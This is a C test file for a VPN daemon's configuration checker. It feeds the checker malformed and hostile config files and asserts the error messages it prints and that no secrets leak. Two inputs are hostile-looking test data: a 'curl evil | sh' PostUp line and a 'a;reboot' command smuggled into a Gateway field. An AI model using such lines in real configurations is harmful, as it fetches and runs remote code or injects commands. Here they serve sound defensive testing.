/* test-config-check.c - `roamvpnd --check`: every configuration error of every file
 * printed as FILE:LINE: message, exit status non-zero on any, zero on a good setup.
 * Runs the built daemon (ROAMVPN_BUILD_ROOT/daemon/roamvpnd); skipped without it. */
#include "config.h"

#include <glib/gstdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "backend.h"
#include "tmpdir.h"

#define PRIV "uECAujy2OnmNsIekac+YA+4fhUErtwPdqZzdLbwCjlg="
#define PUB "/OQnPMonP2LiOu0xkVgbWkKPHIDVr1VKS38u5w7ab2A="

static char *daemon_path;
static char *confdir;
static char *plugindir;

static void write_file(const char *rel, const char *text, mode_t mode)
{
	g_autofree char *path = g_build_filename(confdir, rel, NULL);
	g_autofree char *dir = g_path_get_dirname(path);
	g_autoptr(GError) error = NULL;

	g_assert_cmpint(g_mkdir_with_parents(dir, 0755), ==, 0);
	g_file_set_contents(path, text, -1, &error);
	g_assert_no_error(error);
	g_assert_cmpint(chmod(path, mode), ==, 0);
}

static void remove_tree(const char *dir)
{
	g_autoptr(GDir) d = g_dir_open(dir, 0, NULL);
	const char *name;

	while (d && (name = g_dir_read_name(d))) {
		g_autofree char *path = g_build_filename(dir, name, NULL);

		if (g_file_test(path, G_FILE_TEST_IS_DIR))
			remove_tree(path);
		else
			g_assert_cmpint(g_remove(path), ==, 0);
	}
	g_assert_cmpint(g_rmdir(dir), ==, 0);
}

/* Run roamvpnd --check; returns its exit status, *out gets stdout + stderr. */
static int run_check(char **out)
{
	const char *argv[] = { daemon_path, "--check", "--config-dir", confdir, NULL };
	g_auto(GStrv) env = g_get_environ();
	g_autofree char *stdout_text = NULL, *stderr_text = NULL;
	g_autoptr(GError) error = NULL;
	int status;

	env = g_environ_setenv(env, "ROAMVPN_PLUGIN_DIR", plugindir, TRUE);
	g_spawn_sync(NULL, (char **)argv, env, G_SPAWN_DEFAULT, NULL, NULL, &stdout_text,
		     &stderr_text, &status, &error);
	g_assert_no_error(error);
	*out = g_strconcat(stdout_text, stderr_text, NULL);
	g_test_message("roamvpnd --check said:\n%s", *out);
	if (!WIFEXITED(status))
		g_error("roamvpnd --check did not exit normally (status %d)", status);
	return WEXITSTATUS(status);
}

static void assert_line(const char *out, const char *rel_and_message)
{
	g_autofree char *line = g_strdup_printf("%s/%s\n", confdir, rel_and_message);

	if (!strstr(out, line))
		g_error("missing in --check output: %s", line);
}

static gboolean skip_without_daemon(void)
{
	if (!daemon_path) {
		g_test_skip("roamvpnd not built");
		return TRUE;
	}
	return FALSE;
}

static void test_good_configuration(void)
{
	g_autofree char *out = NULL;

	if (skip_without_daemon())
		return;
	write_file("roamvpn.conf", "[General]\nDNS=file\nDebounceMs=100\n", 0644);
	write_file("tunnels/corp.conf", "[Interface]\nPrivateKey = " PRIV "\nDNS = 10.0.0.1, corp.example\n"
		   "[Peer]\nPublicKey = " PUB "\nEndpoint = 192.0.2.1:51820\nAllowedIPs = 0.0.0.0/0\n", 0600);
	write_file("tunnels/script.conf", "[Tunnel]\nBackend=exec\nDNS=10.9.9.9\n[exec]\nStart=/bin/sleep 1000\n",
		   0644);
	write_file("rules/10-home.rules", "[Match]\nSSID=HomeNet\nGateway=00:11:22:33:44:55\n"
		   "[Action]\nDisconnect=all\n", 0644);
	write_file("rules/50-wifi.rules", "[Match]\nType=wlan\nSSID=!\"Office 5G\" !a\\x00b\n"
		   "[Action]\nConnect=corp\n", 0644);
	write_file("rules/60-wired.rules", "[Match]\nType=ether\n[Action]\nConnect=script\n", 0644);

	g_assert_cmpint(run_check(&out), ==, 0);
	remove_tree(confdir);
}

static void test_empty_configuration(void)
{
	g_autofree char *out = NULL;

	if (skip_without_daemon())
		return;
	g_assert_cmpint(g_mkdir(confdir, 0755), ==, 0);
	g_assert_cmpint(run_check(&out), ==, 0);
	remove_tree(confdir);
}

static void test_every_error_reported(void)
{
	g_autofree char *out = NULL;

	if (skip_without_daemon())
		return;
	write_file("roamvpn.conf", "[General]\nDNS=bogus\n", 0644);
	/* A secret-holding file readable by others, and a bad key in it. */
	write_file("tunnels/corp.conf", "[Interface]\nPrivateKey = " PRIV "\nMTU = 9\n"
		   "PostUp = curl evil | sh\n", 0644);
	write_file("tunnels/script.conf", "[Tunnel]\nBackend=exec\n[exec]\nStop=/bin/true\n", 0644);
	write_file("rules/10-bad.rules", "[Match]\nSSID=\"HomeNet\nBogus=1\n[Action]\nConnect=crop\n", 0644);
	write_file("rules/20-ok.rules", "[Action]\nIgnore=yes\n", 0644);
	write_file("rules/30-bad.rules", "[Match]\nType=wlan\n", 0644);

	g_assert_cmpint(run_check(&out), !=, 0);
	assert_line(out, "roamvpn.conf:2: DNS=: 'bogus' is not auto, file, resolvconf or resolved");
	assert_line(out, "tunnels/corp.conf:3: MTU=: '9' is not a number from 576 to 65535");
	assert_line(out, "tunnels/corp.conf:4: PostUp= is a shell command line and roamvpn never runs "
		    "those; remove it (DNS= and routes are applied by roamvpn, or write an exec tunnel)");
	assert_line(out, "tunnels/corp.conf: holds secrets but is accessible by group or others "
		    "(mode 0644); chmod 600 it");
	assert_line(out, "tunnels/script.conf:3: [exec] needs Start=");
	assert_line(out, "rules/10-bad.rules:2: SSID=: unterminated quote");
	assert_line(out, "rules/10-bad.rules:3: unknown key Bogus= in [Match] "
		    "(known: Name, Type, SSID, BSSID, Gateway, Carrier)");
	assert_line(out, "rules/30-bad.rules:1: no [Action] section "
		    "(need Connect=TUNNEL, Disconnect=TUNNEL|all or Ignore=yes)");
	/* The secret never leaks into the output. */
	g_assert_null(strstr(out, PRIV));
	remove_tree(confdir);
}

static void test_unknown_tunnel(void)
{
	g_autofree char *out = NULL;

	if (skip_without_daemon())
		return;
	write_file("tunnels/corp.conf", "[Tunnel]\nBackend=exec\n[exec]\nStart=/bin/true\n", 0644);
	write_file("rules/50-wifi.rules", "[Match]\nType=wlan\n[Action]\nConnect=crop\n", 0644);
	g_assert_cmpint(run_check(&out), !=, 0);
	assert_line(out, "rules/50-wifi.rules:4: Connect=: unknown tunnel 'crop' (no tunnels/crop.conf)");
	remove_tree(confdir);
}

/* Issue 8 §1, §2, §9: typos and hostile files are FILE:LINE errors; --check neither
 * aborts ("[Tunnel]]" hit an assertion: exit 134), nor hangs on a FIFO, nor echoes a
 * line that lost its '=' (it may be a password). */
static void test_hostile_files(void)
{
	static const char nul_rule[] = "[Match]\nType=wlan\n\0[Action]\nIgnore=yes\n";
	g_autofree char *fifo = NULL, *nul = NULL, *out = NULL;
	g_autoptr(GError) error = NULL;

	if (skip_without_daemon())
		return;
	write_file("tunnels/typo.conf", "[Tunnel]]\nBackend=exec\n[exec]\nStart=/bin/true\n", 0600);
	write_file("tunnels/typo2.conf", "[Tunnel] x]\nBackend=exec\n[exec]\nStart=/bin/true\n", 0600);
	write_file("tunnels/pw.conf", "[Tunnel]\nBackend=exec\n[exec]\nStart=/bin/true\nPassword hunter2\n", 0600);
	write_file("rules/10-ok.rules", "[Action]\nIgnore=yes\n", 0644);
	fifo = g_build_filename(confdir, "rules", "20-fifo.rules", NULL);
	g_assert_cmpint(mkfifo(fifo, 0644), ==, 0);
	nul = g_build_filename(confdir, "rules", "30-nul.rules", NULL);
	g_file_set_contents(nul, nul_rule, sizeof(nul_rule) - 1, &error);
	g_assert_no_error(error);

	g_assert_cmpint(run_check(&out), ==, 1);
	assert_line(out, "tunnels/typo.conf:1: malformed section header (a line starting with '[' must be [Name])");
	assert_line(out, "tunnels/typo2.conf:1: malformed section header (a line starting with '[' must be [Name])");
	assert_line(out, "tunnels/pw.conf:5: expected 'Key=Value' or '[Section]': line 5 is not KEY=VALUE "
		    "(not shown, it may hold a secret)");
	assert_line(out, "rules/20-fifo.rules: not a regular file");
	assert_line(out, "rules/30-nul.rules:3: NUL byte in a text file");
	g_assert_null(strstr(out, "hunter2"));
	remove_tree(confdir);
}

/* Plugins (issue 7 §1, §2): the real vpnc plugin validates its section with FILE:LINE
 * errors and never shows a secret; a plugin that does not load is reported while the
 * rest is still checked; the exec backend does not echo a key that may be a password. */
static void test_plugins(void)
{
	const char *build = g_getenv("ROAMVPN_BUILD_ROOT");
	g_autofree char *vpnc = build ? g_build_filename(build, "plugins", "vpnc.so", NULL) : NULL;
	g_autofree char *link = g_build_filename(plugindir, "vpnc.so", NULL);
	g_autofree char *broken = g_build_filename(plugindir, "broken.so", NULL);
	g_autofree char *bad_abi = build ? g_build_filename(build, "tests", "bad-abi.so", NULL) : NULL;
	g_autofree char *bad_abi_link = g_build_filename(plugindir, "bad-abi.so", NULL);
	g_autofree char *out = NULL, *expect = NULL, *expect2 = NULL;
	g_autofree char *fifo = NULL, *fifo_tunnel = NULL;
	g_autoptr(GError) error = NULL;

	if (skip_without_daemon())
		return;
	if (!vpnc || !g_file_test(vpnc, G_FILE_TEST_EXISTS)) {
		g_test_skip("plugins/vpnc.so not built");
		return;
	}
	g_assert_cmpint(symlink(vpnc, link), ==, 0);
	g_assert_cmpint(symlink(bad_abi, bad_abi_link), ==, 0);
	g_file_set_contents(broken, "not an ELF object\n", -1, &error);
	g_assert_no_error(error);
	write_file("tunnels/corp.conf", "[Tunnel]\nBackend=vpnc\n[vpnc]\nGateway=vpn.corp.example\n"
		   "ID=corp\nSecret=grouppsk\nUsername=alice\nPassword=hunter2\n", 0600);
	write_file("tunnels/bad.conf", "[Tunnel]\nBackend=vpnc\n[vpnc]\nGateway=a;reboot\nSecret=\n"
		   "Password=hunter2\nPassword=hunter3\nNATTMode=always\nDPDIdleTimeout=5\n"
		   "Xauth password hunter4=\n", 0600);
	write_file("tunnels/script.conf", "[Tunnel]\nBackend=exec\n[exec]\nStart=/bin/true\n"
		   "Xauth password hunter5=1\n", 0600);
	/* A FIFO as Config= would block whoever reads it (the kill switch does). */
	fifo = g_build_filename(confdir, "vpnc-fifo.conf", NULL);
	g_assert_cmpint(mkfifo(fifo, 0600), ==, 0);
	fifo_tunnel = g_strdup_printf("[Tunnel]\nBackend=vpnc\n[vpnc]\nConfig=%s\n", fifo);
	write_file("tunnels/fifo.conf", fifo_tunnel, 0600);
	write_file("tunnels/missing.conf", "[Tunnel]\nBackend=vpnc\n[vpnc]\nConfig=/nonexistent/vpnc.conf\n", 0600);
	write_file("tunnels/quote.conf", "[Tunnel]\nBackend=exec\n[exec]\n"
		   "Start=/usr/bin/vpn --password 'hunter6\n", 0600);

	g_assert_cmpint(run_check(&out), ==, 1);
	/* The broken plugin is named; vpnc (loaded) still checks its tunnels. */
	expect = g_strdup_printf("%s: cannot load: ", broken);
	g_assert_nonnull(strstr(out, expect));
	/* A plugin built for another daemon is refused by its ABI number, named. */
	g_free(expect);
	expect = g_strdup_printf("%s: backend future was built for another roamvpnd (ABI %d, this is %d); "
				 "not used\n", bad_abi_link, RV_BACKEND_ABI + 1, RV_BACKEND_ABI);
	g_assert_nonnull(strstr(out, expect));
	g_assert_null(strstr(out, "registered no backend"));
	g_assert_null(strstr(out, "corp.conf"));
	assert_line(out, "tunnels/bad.conf:4: Gateway=: 'a;reboot' is not a host name or address");
	assert_line(out, "tunnels/bad.conf:5: Secret= is empty");
	assert_line(out, "tunnels/bad.conf:7: Password= repeated (first at line 6)");
	assert_line(out, "tunnels/bad.conf:8: NATTMode=: 'always' is not natt, none, force-natt or cisco-udp");
	assert_line(out, "tunnels/bad.conf:9: DPDIdleTimeout=: '5' is not 0 (off) or 10 to 86400 seconds");
	assert_line(out, "tunnels/bad.conf:10: line 10 is not KEY=VALUE in [vpnc] (not shown, it may hold a secret)");
	assert_line(out, "tunnels/bad.conf:3: [vpnc] has neither Config= nor ID= (vpnc runs without a "
		    "terminal: every setting must be in the file)");
	assert_line(out, "tunnels/script.conf:5: line 5 is not KEY=VALUE in [exec] (not shown, it may hold a secret)");
	expect2 = g_strdup_printf("tunnels/fifo.conf:4: Config=: '%s' is not a regular file", fifo);
	assert_line(out, expect2);
	/* A missing Config= names the tunnel file and line (strerror's words vary by locale). */
	g_free(expect2);
	expect2 = g_strdup_printf("%s/tunnels/missing.conf:4: Config=: '/nonexistent/vpnc.conf' cannot be read: ",
				  confdir);
	g_assert_nonnull(strstr(out, expect2));
	/* GLib's own message would quote the command line. */
	assert_line(out, "tunnels/quote.conf:4: Start=: a quote is not closed or a line ends in '\\' "
		    "(not shown, it may hold a secret)");
	for (int i = 2; i <= 6; i++) {
		g_autofree char *secret = g_strdup_printf("hunter%d", i);

		g_assert_null(strstr(out, secret));
	}
	g_assert_null(strstr(out, "grouppsk"));
	remove_tree(confdir);
	g_assert_cmpint(g_remove(broken), ==, 0);
	g_assert_cmpint(g_remove(bad_abi_link), ==, 0);

	/* The shipped vpnc example (inline keys) is valid as installed (0600). */
	{
		const char *src = g_getenv("ROAMVPN_SOURCE_ROOT");
		g_autofree char *example = src ? g_build_filename(src, "data", "examples", "tunnels",
								  "vpnc.conf", NULL) : NULL;
		g_autofree char *text = NULL, *out2 = NULL;

		g_assert_true(example && g_file_get_contents(example, &text, NULL, NULL));
		write_file("tunnels/vpnc.conf", text, 0600);
		g_assert_cmpint(run_check(&out2), ==, 0);
	}

	/* So are the openvpn and ipsec examples, checked by their plugins; openvpn's
	 * Config= names a .ovpn this machine does not have: the test's own stands in. */
	{
		const char *src = g_getenv("ROAMVPN_SOURCE_ROOT");
		static const char *const names[] = { "openvpn", "ipsec" };
		g_autofree char *ovpn = g_build_filename(confdir, "corp.ovpn", NULL);
		g_autofree char *out3 = NULL;

		for (gsize i = 0; i < G_N_ELEMENTS(names); i++) {
			g_autofree char *so = g_strdup_printf("%s.so", names[i]);
			g_autofree char *built = g_build_filename(build, "plugins", so, NULL);
			g_autofree char *plugin = g_build_filename(plugindir, so, NULL);
			g_autofree char *conf = g_strdup_printf("%s.conf", names[i]);
			g_autofree char *example = g_build_filename(src, "data", "examples", "tunnels", conf, NULL);
			g_autofree char *text = NULL, *rel = g_strdup_printf("tunnels/%s", conf);
			g_autoptr(GString) fixed = NULL;

			g_assert_true(g_file_test(built, G_FILE_TEST_EXISTS));
			g_assert_cmpint(symlink(built, plugin), ==, 0);
			g_assert_true(g_file_get_contents(example, &text, NULL, NULL));
			fixed = g_string_new(text);
			g_assert_cmpuint(g_string_replace(fixed, "/etc/openvpn/client/corp.ovpn", ovpn, 0), ==,
					 i == 0 ? 1 : 0);
			write_file(rel, fixed->str, 0600);
		}
		write_file("corp.ovpn", "client\nremote vpn.corp.example 1194\n", 0600);
		g_assert_cmpint(run_check(&out3), ==, 0);
		g_assert_null(strstr(out3, "corp-shared-key"));
		for (gsize i = 0; i < G_N_ELEMENTS(names); i++) {
			g_autofree char *plugin = g_strdup_printf("%s/%s.so", plugindir, names[i]);

			g_assert_cmpint(g_remove(plugin), ==, 0);
		}
	}

	g_assert_cmpint(g_remove(link), ==, 0);
	remove_tree(confdir);
}

int main(int argc, char **argv)
{
	const char *build = g_getenv("ROAMVPN_BUILD_ROOT");
	g_autoptr(GError) error = NULL;
	g_autofree char *top = NULL;
	int ret;

	g_test_init(&argc, &argv, NULL);
	if (build) {
		daemon_path = g_build_filename(build, "daemon", "roamvpnd", NULL);
		if (!g_file_test(daemon_path, G_FILE_TEST_IS_EXECUTABLE))
			g_clear_pointer(&daemon_path, g_free);
	}
	top = g_dir_make_tmp("roamvpn-check-XXXXXX", &error);
	g_assert_no_error(error);
	confdir = g_build_filename(top, "etc", NULL);
	plugindir = g_build_filename(top, "plugins", NULL);	/* empty: no plugins */
	g_assert_cmpint(g_mkdir(plugindir, 0755), ==, 0);

	g_test_add_func("/config-check/good", test_good_configuration);
	g_test_add_func("/config-check/empty", test_empty_configuration);
	g_test_add_func("/config-check/every-error", test_every_error_reported);
	g_test_add_func("/config-check/unknown-tunnel", test_unknown_tunnel);
	g_test_add_func("/config-check/hostile-files", test_hostile_files);
	g_test_add_func("/config-check/plugins", test_plugins);
	ret = g_test_run();

	g_assert_cmpint(g_rmdir(plugindir), ==, 0);
	ret = rv_test_remove_tmpdir(top, ret);
	g_free(daemon_path);
	g_free(confdir);
	g_free(plugindir);
	return ret;
}
